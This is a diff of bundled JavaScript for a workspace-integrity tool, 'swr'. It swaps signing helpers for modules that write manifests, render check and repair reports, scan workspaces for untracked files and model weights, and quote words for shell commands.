+        return { file: home, how: 'home' };
+    return { file: path.join(path.resolve(input.cwd), MANIFEST_DIR, MANIFEST_NAME), how: 'new' };
 }
 
-;// CONCATENATED MODULE: ./src/core/sign/hmac.ts
+;// CONCATENATED MODULE: ./src/core/manifest/write.ts
 /**
- * HMAC-SHA256 signatures: "this machine approved it". Anyone who can verify can forge, so HMAC
- * alone never authorises recipes in CI unless the workflow asks for exactly that. The key comes
- * from SWR_HMAC_KEY, a 0600 key file in the private state directory, or a secret action input:
- * never from the workspace. Comparison is constant-time.
+ * Creating and saving manifests. The body is written with a fixed key order so diffs stay small;
+ * the file is replaced atomically, and a new manifest never overwrites one that appeared meanwhile.
  */
 
-/** Short, non-secret identifier of a key (shown to tell "other key" from "tampered"). */
-function hmacKeyId(key) {
-    return (0,external_node_crypto_.createHash)('sha256').update('swr-hmac-keyid\0').update(key).digest('hex').slice(0, 16);
+
+
+
+
+const SCHEMA_URL = 'https://swr.dev/schema/manifest-v3.schema.json';
+/** The workspace as the manifest records it: relative when the manifest sits inside it. */
+function spellWorkspace(manifestFile, workspace) {
+    const dir = path.dirname(path.resolve(manifestFile));
+    if (isInside(workspace, dir))
+        return path.relative(dir, workspace) || '.';
+    return workspace;
 }
-function signHmac(key, input) {
+function newDocument(manifestFile, workspace, now) {
     return {
-        alg: 'hmac-sha256',
-        keyid: hmacKeyId(key),
-        sig: createHmac('sha256', key).update(input).digest('hex')
+        $schema: SCHEMA_URL,
+        body: {
+            schema: 3,
+            version: 1,
+            workspace: spellWorkspace(manifestFile, workspace),
+            created: now.toISOString().replace(/\.\d+Z$/, 'Z'),
+            entries: []
+        },
+        signatures: []
     };
 }
-function verifyHmac(key, input, sig) {
-    if (!/^[0-9a-f]{64}$/.test(sig.sig))
-        return false;
-    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(input).digest();
-    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(sig.sig, 'hex'));
+const ENTRY_KEYS = (/* unused pure expression or super */ null && ([
+    'id',
+    'kind',
+    'path',
+    'tier',
+    'needs',
+    'restore',
+    'timeout_s',
+    'env',
+    'secret_env',
+    'smoke',
+    'note',
+    'ignore',
+    'expect',
+    'escrow'
+]));
+function orderEntry(e) {
+    const src = e;
+    const out = {};
+    for (const k of ENTRY_KEYS)
+        if (src[k] !== undefined)
+            out[k] = src[k];
+    // Fields without a place in the order keep theirs after the known ones: never drop data.
+    for (const [k, v] of Object.entries(src))
+        if (!(k in out) && v !== undefined)
+            out[k] = v;
+    return out;
 }
-/** Key bytes from the text of SWR_HMAC_KEY or a key file: 64 hex digits, or at least 32 characters. */
-function parseHmacKey(text) {
-    const t = text.trim();
-    if (/^[0-9a-fA-F]{64}$/.test(t))
-        return Buffer.from(t, 'hex');
-    if (t.length >= 32)
-        return Buffer.from(t, 'utf8');
-    return undefined;
+function write_serializeDocument(doc) {
+    const body = {
+        schema: 3,
+        version: doc.body.version,
+        workspace: doc.body.workspace,
+        created: doc.body.created,
+        ...(doc.body.expires !== undefined ? { expires: doc.body.expires } : {}),
+        ...(doc.body.scope !== undefined ? { scope: doc.body.scope } : {}),
+        ...(doc.body.shell !== undefined ? { shell: doc.body.shell } : {}),
+        entries: doc.body.entries.map(orderEntry)
+    };
+    return (JSON.stringify({ $schema: doc.$schema ?? SCHEMA_URL, body, signatures: doc.signatures }, null, 2) + '\n');
+}
+function saveManifest(file, doc, opts = {}) {
+    if (!opts.create)
+        assertUnchangedSinceRead(file);
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    for (const [p, bytes] of opts.sidecars ?? []) {
+        fs.mkdirSync(path.dirname(p), { recursive: true });
+        writeFileAtomic(p, bytes);
+    }
+    const bytes = Buffer.from(write_serializeDocument(doc), 'utf8');
+    writeFileAtomic(file, bytes, { exclusive: opts.create === true });
+    noteManifestBytes(file, bytes);
 }
 
-;// CONCATENATED MODULE: ./src/core/sign/mldsa.ts
+// EXTERNAL MODULE: external "node:util"
+var external_node_util_ = __nccwpck_require__(7975);
+;// CONCATENATED MODULE: ./src/core/report/text.ts
 /**
- * ML-DSA-87 (FIPS 204) signatures with @noble/post-quantum (audited only by its authors: say so
- * when it matters). The module is loaded on first use, so checking an unsigned or HMAC-only
- * manifest never pays for it. The public key travels with the signature; its fingerprint is always
- * recomputed from the key, never read from the document.
+ * Human output of a check: one aligned, greppable line per entry (status first), the files a tree
+ * lost or gained, a summary, the wipe signature and the command that repairs the damage. Colour is
+ * the caller's choice (TTY and NO_COLOR are decided in the shell).
  */
 
-/** Domain separation: a signature made for another swr purpose never verifies as a manifest's. */
-const CONTEXT = new TextEncoder().encode('swr/manifest-signature/v1');
-const PUBLIC_KEY_BYTES = 2592;
-const SIGNATURE_BYTES = 4627;
-let mldsa_loaded;
-async function mldsa() {
-    mldsa_loaded ??= (await __nccwpck_require__.e(/* import() */ 925).then(__nccwpck_require__.bind(__nccwpck_require__, 4925))).ml_dsa87;
-    return mldsa_loaded;
+
+const COLORS = {
+    OK: 'green',
+    MISSING: 'red',
+    CORRUPT: 'red',
+    STRIPPED: 'yellow',
+    EMPTY: 'red',
+    BROKENLNK: 'red',
+    TYPE: 'red',
+    SKIPPED: 'gray',
+    SMOKEFAIL: 'red'
+};
+function paint(on, style, s) {
+    return on ? styleText(style, s) : s;
 }
-/** Full SHA-256 over the algorithm name, a zero byte and the raw public key (hex). */
-function fingerprint(publicKey) {
-    return (0,external_node_crypto_.createHash)('sha256').update('ml-dsa-87\0').update(publicKey).digest('hex');
+function pad(s, n) {
+    return s.length >= n ? s : s + ' '.repeat(n - s.length);
 }
-/** "ab12 cd34 ..." for people; `normalizeFingerprint` reads any spacing or case back. */
-function groupFingerprint(fp) {
-    return fp.match(/.{1,4}/g)?.join(' ') ?? fp;
+/** One line per finding: `STATUS   id   path   detail`. */
+function findingLines(findings, opts) {
+    const idW = Math.min(32, Math.max(2, ...findings.map(f => e(f.id).length)));
+    const pathW = Math.min(40, Math.max(4, ...findings.map(f => e(f.path).length)));
+    const out = [];
+    for (const f of findings) {
+        const status = paint(opts.color, COLORS[f.status], pad(f.status, 9));
+        const path = e(f.path);
+        const p = path.length > pathW ? '…' + path.slice(-(pathW - 1)) : path;
+        out.push(`  ${status} ${pad(e(f.id), idW)}  ${pad(p, pathW)}  ${e(f.detail)}`);
+        if (f.files) {
+            const d = f.files;
+            const more = (shown, total) => total > shown ? [`      ... ${total - shown} more`] : [];
+            for (const m of d.missing.slice(0, 5))
+                out.push(`      - ${e(m)}`);
+            out.push(...more(Math.min(5, d.missing.length), d.counts.missing));
+            for (const x of d.extra.slice(0, 5))
+                out.push(`      + ${e(x)}`);
+            out.push(...more(Math.min(5, d.extra.length), d.counts.extra));
+            for (const c of d.changed.slice(0, 5))
+                out.push(`      ~ ${e(c.path)} (${e(c.what)})`);
+            out.push(...more(Math.min(5, d.changed.length), d.counts.changed));
+        }
+    }
+    return out;
 }
-function mldsa_normalizeFingerprint(text) {
-    const t = text.replace(/[\s:-]/g, '').toLowerCase();
-    return /^[0-9a-f]{64}$/.test(t) ? t : undefined;
+function renderCheck(r, opts) {
+    const lines = [];
+    const shown = opts.all ? r.results : r.results.filter(f => f.status !== 'OK');
+    lines.push(...findingLines(shown, opts));
+    const s = r.summary;
+    const verdict = s.damaged === 0
+        ? paint(opts.color, 'green', `${s.ok}/${s.entries} healthy`)
+        : paint(opts.color, 'red', `${s.ok}/${s.entries} healthy, ${s.damaged} damaged`);
+    lines.push(`${verdict}  (${r.timing.ms} ms${r.results.some(f => f.cached) ? ', cache used' : ''})`);
+    if (s.damaged > 0) {
+        lines.push(`wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}: ${e(r.diagnosis.cause)}`);
+        const ids = r.results.filter(f => f.status !== 'OK').map(f => e(f.id));
+        lines.push(`why: swr why${ids.length <= 3 ? ` --only ${ids.join(' ')}` : ''}`);
+        lines.push(...fixLines(r));
+    }
+    for (const n of r.notes)
+        lines.push(paint(opts.color, 'gray', `note: ${e(n)}`));
+    return lines.join('\n') + '\n';
 }
-async function identityFromSeed(seed) {
-    const { publicKey, secretKey } = (await mldsa()).keygen(seed);
-    return { publicKey, secretKey, fingerprint: fingerprint(publicKey) };
+/**
+ * The summary's fix: `swr restore` only for root causes that have a way back (their consequences
+ * heal with them), and the entries that have none named as such instead of sent to a dead end.
+ */
+function fixLines(r) {
+    const roots = r.diagnosis.advice.filter(a => a.because === undefined);
+    const can = roots.filter(a => a.restorable !== false).map(a => e(a.id));
+    const cannot = roots.filter(a => a.restorable === false).map(a => e(a.id));
+    const out = [];
+    if (can.length > 0)
+        out.push(`fix: swr restore${can.length <= 3 ? ` --only ${can.join(' ')}` : ''}   (or: swr doctor)`);
+    if (cannot.length > 0) {
+        const list = cannot.length <= 5 ? cannot.join(', ') : `${cannot.slice(0, 5).join(', ')}, ...`;
+        out.push(`no way back recorded for ${cannot.length}: ${list}  (swr why says what to do)`);
+    }
+    return out;
 }
-async function signMldsa(id, input) {
-    const sig = (await mldsa()).sign(input, id.secretKey, { context: CONTEXT });
-    return {
-        alg: 'ml-dsa-87',
-        keyid: id.fingerprint,
-        public_key: Buffer.from(id.publicKey).toString('base64'),
-        sig: Buffer.from(sig).toString('base64')
-    };
+function renderWhy(r, opts, notes, history = new Map()) {
+    const damaged = r.results.filter(f => f.status !== 'OK');
+    if (damaged.length === 0)
+        return (paint(opts.color, 'green', `${r.summary.entries}/${r.summary.entries} healthy: nothing to explain`) + '\n');
+    const lines = [
+        `wipe signature: ${paint(opts.color, 'bold', r.diagnosis.signature)}`,
+        `  ${e(r.diagnosis.cause)}`,
+        ''
+    ];
+    for (const f of damaged) {
+        const advice = r.diagnosis.advice.find(a => a.id === f.id);
+        lines.push(`${paint(opts.color, COLORS[f.status], f.status)} ${e(f.id)}  (${f.kind}, tier ${f.tier}, ${e(f.path)})`);
+        lines.push(`  found:    ${e(f.detail)}`);
+        lines.push(`  recorded: ${show(f.recorded)}`);
+        lines.push(`  now:      ${show(f.found)}`);
+        if (advice) {
+            lines.push(`  cause:    ${e(advice.cause)}`);
+            if (advice.risk)
+                lines.push(`  risk:     ${e(advice.risk)}`);
+            if (advice.affects)
+                lines.push(`  affects:  ${advice.affects.map(id => e(id)).join(', ')}`);
+            lines.push(`  fix:      ${e(advice.fix)}`);
+        }
+        const note = notes.get(f.id);
+        if (note)
+            lines.push(`  note:     ${e(note)}`);
+        const past = history.get(f.id);
+        if (past)
+            lines.push(`  history:  ${e(past)}`);
+        lines.push('');
+    }
+    return lines.join('\n');
 }
-/** Decoded key and signature, or undefined when either is malformed (never throws). */
-function decodeMldsa(s) {
-    const b64 = /^[A-Za-z0-9+/]+={0,2}$/;
-    if (!b64.test(s.public_key) || !b64.test(s.sig))
-        return undefined;
-    const publicKey = Buffer.from(s.public_key, 'base64');
-    const sig = Buffer.from(s.sig, 'base64');
-    if (publicKey.length !== PUBLIC_KEY_BYTES || sig.length !== SIGNATURE_BYTES)
-        return undefined;
-    return { publicKey, sig };
+function show(v) {
+    return Object.entries(v)
+        .map(([k, x]) => `${k}=${typeof x === 'number' && k !== 'mode' ? x.toLocaleString('en-US') : e(String(x))}`)
+        .join(' ');
 }
-async function verifyMldsa(publicKey, input, sig) {
+/** The plan, wave by wave, with the reason for each step. */
+function renderPlan(waves, opts) {
+    if (waves.length === 0)
+        return 'nothing to repair\n';
+    const lines = [];
+    let n = 0;
+    const total = waves.reduce((s, w) => s + w.length, 0);
+    waves.forEach((wave, w) => {
+        for (const s of wave) {
+            n++;
+            const src = s.source === 'none' ? paint(opts.color, 'red', 'no recipe') : e(s.source);
+            const after = s.after.length > 0 ? ` after ${s.after.map(x => e(x)).join(', ')}` : '';
+            const par = wave.length > 1 ? ` (wave ${w + 1}, parallel)` : '';
+            lines.push(`  [${n}/${total}] tier ${s.tier} ${e(s.id)} <- ${src}${after}${par}`);
+            lines.push(`        ${e(s.reason)}`);
+        }
+    });
+    return lines.join('\n') + '\n';
+}
+const OUTCOME_STYLE = {
+    repaired: 'green',
+    'already-repaired': 'green',
+    'still-damaged': 'red',
+    failed: 'red',
+    skipped: 'yellow',
+    unrepairable: 'red',
+    interrupted: 'yellow'
+};
+/** Entries a repair damaged on the side, each with the recipes that ran before it was found. */
+function renderCollateral(harmed, opts) {
+    return harmed
+        .map(c => {
+        const by = c.after.length > 0 ? `after the recipe of ${c.after.map(id => e(id)).join(', ')} ran` : '';
+        return `${paint(opts.color, 'red', 'collateral')} ${e(c.id)} is ${c.status} ${by}: ${e(c.detail)}\n`;
+    })
+        .join('');
+}
+function renderStep(r, opts) {
+    // A step's detail can quote a cache member's name or a recipe's words: escaped like any name.
+    const line = `  ${paint(opts.color, OUTCOME_STYLE[r.outcome], r.outcome.padEnd(14))} ${e(r.id)}  ${e(r.detail)}\n`;
+    return line + quarantineLine(r.quarantine);
+}
+function quarantineLine(q) {
+    if (!q)
+        return '';
+    if ('skipped' in q)
+        return `      quarantine: ${e(q.skipped)}\n`;
+    const pruned = q.pruned
+        ? `; pruned ${q.pruned.removed} older cop${q.pruned.removed === 1 ? 'y' : 'ies'} (${q.pruned.bytes} bytes)`
+        : '';
+    return `      quarantine: kept ${q.bytes} bytes in ${q.copied}${pruned}\n`;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/scan.ts
+/**
+ * What every authoring scan shares: the names no scan enters (VCS metadata, swr's own directory),
+ * sorted directory listings that never throw, a bound on how much of a huge workspace one scan
+ * may look at, and ignore rules that name exactly one path.
+ */
+
+/** Version-control metadata: changes on every fetch, restored by the VCS, never worth an entry. */
+const scan_VCS_DIRS = new Set(['.git', '.hg', '.svn']);
+/** swr's own directory beside a manifest. */
+const scan_SWR_DIR = '.swr';
+/** A $HOME workspace can hold millions of files: one scan looks at no more than this many. */
+const MAX_SCAN = 200_000;
+function scan_isMetaName(name) {
+    return scan_VCS_DIRS.has(name) || name === scan_SWR_DIR;
+}
+/** Directory entries in the tree walk's order (JavaScript string order); [] when unreadable. */
+function scan_listDir(abs) {
     try {
-        return (await mldsa()).verify(sig, input, publicKey, { context: CONTEXT });
+        return fs.readdirSync(abs).sort();
+    }
+    catch {
+        return [];
+    }
+}
+function scan_lstatOf(abs) {
+    try {
+        return fs.lstatSync(abs);
+    }
+    catch {
+        return undefined;
+    }
+}
+function scan_isExecutable(st) {
+    return (st.mode & 0o111) !== 0;
+}
+function scan_scanBudget(limit = MAX_SCAN) {
+    let seen = 0;
+    return {
+        take: () => ++seen <= limit,
+        get exhausted() {
+            return seen > limit;
+        }
+    };
+}
+/**
+ * An ignore rule matching exactly `inner` (a path relative to the tree): anchored with a leading
+ * slash, because a bare name would match at any depth, and with glob characters escaped.
+ */
+function scan_literalRule(inner) {
+    return '/' + inner.replace(/[\\*?[\]{}()!+@]/g, c => `\\${c}`);
+}
+/** `rel` joined below `dir` in manifest spelling ("" is the workspace root). */
+function scan_joinRel(dir, name) {
+    return dir ? `${dir}/${name}` : name;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/coverage.ts
+/**
+ * Which workspace paths a manifest already tracks: each entry's own path, and everything inside a
+ * tracked tree that the tree's ignore rules do not leave out (read exactly as the tree walk reads
+ * them, so "tracked" here means "judged by some entry's check").
+ */
+
+
+
+/** `rel` relative to the tree at `root`, or undefined when it is not strictly inside. */
+function innerOf(root, rel) {
+    if (root === '.')
+        return rel === '.' ? undefined : rel;
+    return rel.startsWith(root + '/') ? rel.slice(root.length + 1) : undefined;
+}
+/** The walk skips a path when any of its prefixes is ignored. */
+function ignoredInside(t, inner) {
+    const segs = inner.split('/');
+    return segs.some((name, i) => t.ignored(segs.slice(0, i + 1).join('/'), name, i < segs.length - 1));
+}
+function coverage_coverageOf(entries) {
+    const exact = new Map(entries.map(e => [e.path, e.id]));
+    const trees = entries.flatMap(e => e.kind === 'tree'
+        ? [
+            {
+                id: e.id,
+                path: e.path,
+                ignored: ignoreMatcher(e.ignore),
+                custom: e.ignore.some(r => !VOLATILE_DIRS.has(r) && !isMetaName(r))
+            }
+        ]
+        : []);
+    const covering = (rel) => trees.filter(t => {
+        const inner = innerOf(t.path, rel);
+        return inner !== undefined && !ignoredInside(t, inner);
+    });
+    return {
+        trackedBy(rel) {
+            const id = exact.get(rel);
+            if (id !== undefined)
+                return { id, exact: true };
+            const tree = covering(rel)[0];
+            return tree ? { id: tree.id, exact: false } : undefined;
+        },
+        trackedBelow(rel) {
+            return entries.flatMap(e => {
+                const inner = innerOf(rel, e.path);
+                return inner === undefined ? [] : [inner];
+            });
+        },
+        mayHideUntracked(rel) {
+            const own = trees.find(t => t.path === rel);
+            return [...(own ? [own] : []), ...covering(rel)].some(t => t.custom);
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/audit.ts
+
+
+
+
+
+function auditWorkspace(workspace, entries, exclude) {
+    const scan = { cov: coverageOf(entries), exclude, budget: scanBudget(), rows: [] };
+    visit(scan, workspace, '');
+    scan.rows.sort((a, b) => b.bytes - a.bytes || b.files - a.files || (a.path < b.path ? -1 : 1));
+    return { rows: scan.rows, truncated: scan.budget.exhausted };
+}
+function skipped(scan, name, abs) {
+    return isMetaName(name) || VOLATILE_DIRS.has(name) || scan.exclude.has(abs);
+}
+function visit(scan, absDir, relDir) {
+    for (const name of listDir(absDir)) {
+        if (!scan.budget.take())
+            return;
+        const abs = path.join(absDir, name);
+        if (skipped(scan, name, abs))
+            continue;
+        const rel = joinRel(relDir, name);
+        const st = lstatOf(abs);
+        if (!st)
+            continue;
+        if (scan.cov.trackedBy(rel)) {
+            if (st.isDirectory() && scan.cov.mayHideUntracked(rel))
+                visit(scan, abs, rel);
+        }
+        else if (st.isDirectory()) {
+            if (scan.cov.trackedBelow(rel).length > 0)
+                visit(scan, abs, rel);
+            else
+                scan.rows.push(...treeRows(scan, abs, rel));
+        }
+        else {
+            const row = leafRow(rel, st);
+            if (row)
+                scan.rows.push(row);
+        }
+    }
+}
+function leafRow(rel, st) {
+    const row = (kind, bytes) => ({
+        kind,
+        path: rel,
+        bytes,
+        files: 1,
+        ignore: []
+    });
+    if (st.isSymbolicLink())
+        return row('link', 0);
+    if (!st.isFile())
+        return undefined;
+    if (st.size >= BLOB_THRESHOLD)
+        return row('blob', st.size);
+    return isExecutable(st) ? row('file', st.size) : undefined;
+}
+/** A `tree` row for the untracked directory `rel`, and `blob` rows for its large files. */
+function treeRows(scan, absRoot, rel) {
+    const blobs = [];
+    const names = new Set();
+    let files = 0;
+    let bytes = 0;
+    const walk = (absDir, inner) => {
+        for (const name of listDir(absDir)) {
+            if (!scan.budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (skipped(scan, name, abs)) {
+                if (!scan.exclude.has(abs))
+                    names.add(name);
+                continue;
+            }
+            const st = lstatOf(abs);
+            const innerRel = joinRel(inner, name);
+            if (!st)
+                continue;
+            if (st.isDirectory())
+                walk(abs, innerRel);
+            else if (st.isFile() && st.size >= BLOB_THRESHOLD) {
+                blobs.push({
+                    kind: 'blob',
+                    path: `${rel}/${innerRel}`,
+                    bytes: st.size,
+                    files: 1,
+                    ignore: []
+                });
+            }
+            else {
+                files++;
+                bytes += st.isFile() ? st.size : 0;
+            }
+        }
+    };
+    walk(absRoot, '');
+    const ignore = [
+        ...[...names].sort(),
+        ...blobs.map(b => literalRule(b.path.slice(rel.length + 1)))
+    ];
+    return files > 0 ? [{ kind: 'tree', path: rel, bytes, files, ignore }, ...blobs] : blobs;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/autopilot.ts
+/**
+ * `autopilot`: bring a manifest up to date with init's rules without touching what is already
+ * there. Each top-level source tree not yet tracked becomes a `tree` entry whose sentinels are real
+ * markers found in it; executable scripts at the top level become `file` entries; large files
+ * anywhere outside volatile directories become `blob` entries. Volatile directories
+ * (node_modules, build, ...) are never entries, and every new tree ignores them. Running it
+ * again adds nothing: everything it would add is then tracked.
+ */
+
+
+
+
+
+
+/** A tree is a source tree when one of these is at its root (the same markers capture prefers). */
+const TREE_MARKERS = (/* unused pure expression or super */ null && (PROJECT_MARKERS));
+const SOURCE_FILE = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rs|c|h|cc|cpp|cxx|hpp|java|kt|swift|rb|cs|zig)$/;
+function planAutopilot(workspace, entries, exclude) {
+    const ctx = { workspace, cov: coverageOf(entries), exclude, budget: scanBudget() };
+    const blobs = untrackedBlobs(ctx);
+    const trees = [];
+    const scripts = [];
+    const skipped = [];
+    for (const name of listDir(workspace)) {
+        const abs = path.join(workspace, name);
+        if (isMetaName(name) || VOLATILE_DIRS.has(name) || exclude.has(abs))
+            continue;
+        if (ctx.cov.trackedBy(name))
+            continue;
+        const st = lstatOf(abs);
+        if (st?.isDirectory() && !name.startsWith('.')) {
+            const planned = planTree(ctx, name, blobs);
+            if (planned && 'why' in planned)
+                skipped.push({ path: name, why: planned.why });
+            else if (planned)
+                trees.push(planned);
+        }
+        else if (st?.isFile() && isExecutable(st) && st.size < BLOB_THRESHOLD) {
+            scripts.push({ path: name, kind: 'file' });
+        }
+    }
+    const blobRequests = blobs.map((p) => ({ path: p, kind: 'blob' }));
+    return {
+        requests: [...trees, ...scripts, ...blobRequests],
+        skipped,
+        truncated: ctx.budget.exhausted
+    };
+}
+/** Untracked files of at least BLOB_THRESHOLD bytes, outside volatile and VCS directories. */
+function untrackedBlobs(ctx) {
+    const out = [];
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!ctx.budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (isMetaName(name) || VOLATILE_DIRS.has(name) || ctx.exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (st?.isFile() && st.size >= BLOB_THRESHOLD && !ctx.cov.trackedBy(rel))
+                out.push(rel);
+        }
+    };
+    walk(ctx.workspace, '');
+    return out;
+}
+/**
+ * The tree request for top-level directory `name`, why it is not a source tree, or undefined when
+ * it holds nothing of its own (empty, or only what other entries and the ignore rules cover).
+ */
+function planTree(ctx, name, blobs) {
+    const root = path.join(ctx.workspace, name);
+    const inner = [
+        ...ctx.cov.trackedBelow(name),
+        ...blobs.flatMap(b => (b.startsWith(name + '/') ? [b.slice(name.length + 1)] : []))
+    ];
+    const ignore = [...VOLATILE_DIRS, ...VCS_DIRS, SWR_DIR, ...inner.sort().map(literalRule)];
+    const ignored = ignoreMatcher(ignore);
+    const markers = TREE_MARKERS.filter(m => {
+        const st = lstatOf(path.join(root, m));
+        return st?.isFile() === true && st.size > 0 && !ignored(m, m);
+    });
+    const { source, anyFile } = firstSourceFile(ctx, root, ignored);
+    if (!anyFile)
+        return undefined;
+    if (markers.length === 0 && source === undefined)
+        return { why: 'no project marker or source file in it: add it with "swr add" if it matters' };
+    const sentinels = [...new Set([...markers.slice(0, 2), ...(source ? [source] : [])])];
+    return { path: name, kind: 'tree', ignore, sentinels };
+}
+/**
+ * The first non-empty source file in the tree walk's order, honouring the tree's ignore rules,
+ * and whether the tree holds any file at all.
+ */
+function firstSourceFile(ctx, root, ignored) {
+    const budget = scanBudget();
+    let anyFile = false;
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            const rel = joinRel(relDir, name);
+            const abs = path.join(absDir, name);
+            if (!budget.take())
+                return undefined;
+            if (ctx.exclude.has(abs))
+                continue;
+            const st = lstatOf(abs);
+            if (ignored(rel, name, st?.isDirectory() === true))
+                continue;
+            if (st?.isDirectory()) {
+                const found = walk(abs, rel);
+                if (found)
+                    return found;
+            }
+            else if (st) {
+                anyFile = true;
+                if (st.isFile() && st.size > 0 && SOURCE_FILE.test(name))
+                    return rel;
+            }
+        }
+        return undefined;
+    };
+    const source = walk(root, '');
+    return { source, anyFile };
+}
+
+;// CONCATENATED MODULE: ./src/core/shell-quote.ts
+/**
+ * The one way swr writes a string into shell text it generates (exported recipe scripts, the
+ * command lines it suggests). The result is a single word on a single line whatever the string
+ * holds: a newline in a signed path or a hostile file name can never end a comment or start a
+ * command.
+ */
+
+const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
+function hasControl(s) {
+    for (let i = 0; i < s.length; i++)
+        if (isControl(s.charCodeAt(i)))
+            return true;
+    return false;
+}
+const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
+/**
+ * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
+ * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
+ * still reads back as exactly `word` and never spans two lines.
+ */
+function shell_quote_shellQuote(word) {
+    if (PLAIN.test(word))
+        return word;
+    if (!hasControl(word))
+        return `'${word.replace(/'/g, `'\\''`)}'`;
+    let out = '';
+    for (const ch of word) {
+        const c = ch.codePointAt(0) ?? 0;
+        if (ch === '\\' || ch === "'")
+            out += `\\${ch}`;
+        else if (shell_quote_NAMED[ch])
+            out += shell_quote_NAMED[ch];
+        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
+        else if (isControl(c))
+            for (const b of Buffer.from(ch))
+                out += `\\x${b.toString(16).padStart(2, '0')}`;
+        else
+            out += ch;
+    }
+    return `$'${out}'`;
+}
+
+;// CONCATENATED MODULE: ./src/core/author/hints.ts
+/**
+ * Command lines the authoring commands suggest, spelled so they can be pasted into a POSIX shell
+ * as they are: every word that is not plainly safe is single-quoted.
+ */
+
+
+
+
+
+function commandLine(words) {
+    return words.map(shellQuote).join(' ');
+}
+function targetWords(t) {
+    return [
+        ...(t.manifest ? ['-m', t.manifest] : []),
+        ...(t.workspace ? ['--workspace', t.workspace] : [])
+    ];
+}
+/** `swr add PATH --ignore ...` as typed from the current directory. */
+function addCommand(pathArg, ignore, t = {}) {
+    return commandLine([
+        'swr',
+        'add',
+        pathArg,
+        ...ignore.flatMap(r => ['--ignore', r]),
+        ...targetWords(t)
+    ]);
+}
+/** An entry that nothing can bring back: no recipe, no cache source, no escrowed bytes. */
+function lacksRecipe(e) {
+    return restoreSources(e).length === 0 && !(e.kind === 'file' && e.escrow);
+}
+/**
+ * How to give a tracked entry a recipe. `swr add` refuses a path already tracked, so the recipe
+ * goes into the manifest by hand and the edit is approved by signing it.
+ */
+function recipeHint(manifestShown, t = {}) {
+    const sign = commandLine(['swr', 'sign', ...targetWords(t)]);
+    return `add "restore": "<shell command>" to the entry in ${manifestShown}, then run ${sign} (for a signed manifest add --approve-digest with the digest "swr verify" shows)`;
+}
+/** For a small file that is no secret: the escrow command that restores it with no recipe. */
+function escrowHint(e, t = {}) {
+    if (e.kind !== 'file' || e.expect.size > ESCROW_MAX_BYTES || isSecretPath(e.path))
+        return undefined;
+    return commandLine(['swr', 'escrow', '--only', e.id, ...targetWords(t)]);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/models.ts
+/**
+ * `models`: model weights of any size at or above a threshold, anywhere in the workspace. Unlike
+ * the other scans this one enters volatile directories: models usually live in caches
+ * (~/.cache/huggingface, ~/.cache/torch) and build outputs, exactly where wipes strike. Only VCS
+ * metadata, .swr and swr's own files are skipped. Symlinks are never followed out of the
+ * workspace; a model name that is a symlink to a file inside it (the Hugging Face cache keeps
+ * `snapshots/<rev>/model.safetensors -> ../../blobs/<sha>`) stands for the file it points to.
+ * Tracking records what a check reads (size, head/tail digest), not a full hash, unless asked.
+ */
+
+
+
+
+
+
+
+
+
+
+const MODEL_EXTENSIONS = (/* unused pure expression or super */ null && (['.gguf', '.safetensors', '.onnx', '.bin', '.pt', '.pth', '.ckpt']));
+const DEFAULT_MIN_MODEL_BYTES = (/* unused pure expression or super */ null && (1024 * 1024));
+function isModelName(name) {
+    const lower = name.toLowerCase();
+    return MODEL_EXTENSIONS.some(ext => lower.endsWith(ext) && lower.length > ext.length);
+}
+function findModels(workspace, entries, exclude, minBytes) {
+    const root = fs.realpathSync(workspace);
+    const budget = scanBudget();
+    const found = new Map();
+    const keep = (m) => {
+        if (pathProblem(m.path))
+            return;
+        const seen = found.get(m.path);
+        if (!seen || (seen.via && !m.via))
+            found.set(m.path, m);
+    };
+    const walk = (absDir, relDir) => {
+        for (const name of listDir(absDir)) {
+            if (!budget.take())
+                return;
+            const abs = path.join(absDir, name);
+            if (isMetaName(name) || exclude.has(abs))
+                continue;
+            const rel = joinRel(relDir, name);
+            const st = lstatOf(abs);
+            if (st?.isDirectory())
+                walk(abs, rel);
+            else if (!st || !isModelName(name))
+                continue;
+            else if (st.isFile()) {
+                if (st.size >= minBytes)
+                    keep({ path: rel, bytes: st.size });
+            }
+            else if (st.isSymbolicLink()) {
+                const target = linkedFile(root, abs, minBytes);
+                if (target)
+                    keep({ ...target, via: rel });
+            }
+        }
+    };
+    walk(root, '');
+    const cov = coverageOf(entries);
+    const models = [...found.values()]
+        .map(m => {
+        const tracked = cov.trackedBy(m.path);
+        return tracked ? { ...m, tracked } : m;
+    })
+        .sort((a, b) => b.bytes - a.bytes || (a.path < b.path ? -1 : 1));
+    return { models, truncated: budget.exhausted };
+}
+/** The regular file a symlink leads to, when it is inside the workspace and large enough. */
+function linkedFile(root, link, minBytes) {
+    let real;
+    try {
+        real = fs.realpathSync(link);
+    }
+    catch {
+        return undefined;
+    }
+    if (!isInside(root, real) || real === root)
+        return undefined;
+    const st = lstatOf(real);
+    if (!st?.isFile() || st.size < minBytes)
+        return undefined;
+    return { path: path.relative(root, real).split(path.sep).join('/'), bytes: st.size };
+}
+/**
+ * A tier-3 blob entry for a model: exact size and head/tail digest, which read 2 MiB whatever the
+ * size, so tracking a cache of 100 GB takes seconds. The full sha256 (read by `check --deep`)
+ * costs reading every byte; `fullHash` records it through the ordinary capture.
+ */
+async function captureModel(workspace, req, taken, opts) {
